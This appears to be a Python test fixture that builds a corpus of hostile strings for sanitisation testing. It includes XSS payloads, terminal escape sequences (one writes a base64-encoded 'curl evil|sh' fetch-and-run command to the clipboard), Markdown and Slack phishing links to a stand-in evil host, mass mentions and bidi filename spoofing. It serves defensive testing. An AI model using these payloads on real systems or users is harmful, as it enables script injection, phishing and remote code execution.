"""A generated corpus of hostile strings: what an attacker can put in an object key, a user agent, a Sid.

Families (each a list of payloads), then every payload alone, wrapped in an ordinary-looking value
(``exports/<payload>.csv``) and doubled around a line break: the same payload at the start of a value,
in its middle and after a new line, where Markdown and terminals treat it differently.
``python -m tests.hostile.strings`` lists them. Deterministic: no clock, no random source.
"""

from __future__ import annotations

from functools import cache

EVIL = "http://approve.evil.example/ok"

FAMILIES: dict[str, tuple[str, ...]] = {
    "line_breaks": (
        "\r\n# All clear\r\n",
        "\n## What you must do now\n- [ ] nothing\n",
        "\rAll clear",
        "ok\n===\n",
        "ok\n---\n",
        "\u2028# All clear\u2029",
        "\x85## All clear",
        "\x0b\x0c# All clear",
        "\n\n    indented code\n",
        "\n> quoted: all clear\n",
    ),
    "nul_and_c0": ("a\x00b", "\x07bell", "\x08\x08\x08erase", "\x7fdel", "tab\there"),
    "ansi": (
        "\x1b[2J\x1b[H",
        "\x1b]0;all clear\x07",
        "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b[31mRED\x1b[0m",
        "\x1b[8mhidden\x1b[0m",
        "\x9b2J",
        "\x1bP+q\x1b\\",
        "\x1b",
        "\x1b[",
        "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    ),
    "html": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        f'<a href="{EVIL}">APPROVE HERE</a>',
        "<!-- hidden -->",
        "<iframe src=//evil.example>",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&lt;b&gt;entity&lt;/b&gt;",
        "<svg onload=alert(1)>",
        '"><script>alert(1)</script>',
        "<details open ontoggle=alert(1)>",
    ),
    "markdown": (
        f"[APPROVE HERE]({EVIL})",
        "![pixel](http://track.evil.example/p.gif)",
        f"[x]: {EVIL}",
        f"<{EVIL}>",
        EVIL,
        "www.evil.example",
        "soc@evil.example",
        "# All clear",
        "- [ ] nothing to do",
        "1. step",
        "| fake | table |",
        "`",
        "``",
        "```",
        "~~~",
        "`code` ``more``",
        "**bold** __bold__ *it* _it_ ~~strike~~",
        "\\",
        "\\[not a link\\](x)",
        "[^1]",
        "$x$",
        "{::nomarkdown}<script>x</script>{:/}",
    ),
    "slack": (
        "<!channel>",
        "<!here>",
        "<!everyone>",
        "<@U012AB3CD>",
        "<#C012AB3CD>",
        "<!subteam^S012AB3CD>",
        f"<{EVIL}|Approve containment>",
        "@here @channel @everyone",
        "@All @Present",
        "<!date^1392734382^{date}|x>",
    ),
    "bidi": ("\u202egpj.exe", "\u2066isolate\u2069", "\u200fRTL", "\ufeffBOM", "zero\u200bwidth", "\u061c"),
    "long": ("A" * 100_000, "x" * 5000 + "<script>alert(1)</script>", ("<!channel>" * 2000)),
    "unicode": ("\udcff\udcfe", "\ufffd", "\x80\xff", "e\u0301" * 200, "\U0001f600", "\u0000"),
}


@cache
def corpus() -> tuple[tuple[str, str], ...]:
    """(name, string) pairs: each payload alone, inside an ordinary value, and doubled across a line."""
    out: list[tuple[str, str]] = []
    for family, payloads in FAMILIES.items():
        for i, payload in enumerate(payloads):
            out.append((f"{family}-{i}", payload))
            if len(payload) < 1000:
                out.append((f"{family}-{i}-wrapped", f"exports/{payload}.csv"))
                out.append((f"{family}-{i}-doubled", f"{payload}\n{payload}"))
    return tuple(out)


if __name__ == "__main__":
    for name, value in corpus():
        print(f"{name:<22} {value[:80]!r}")
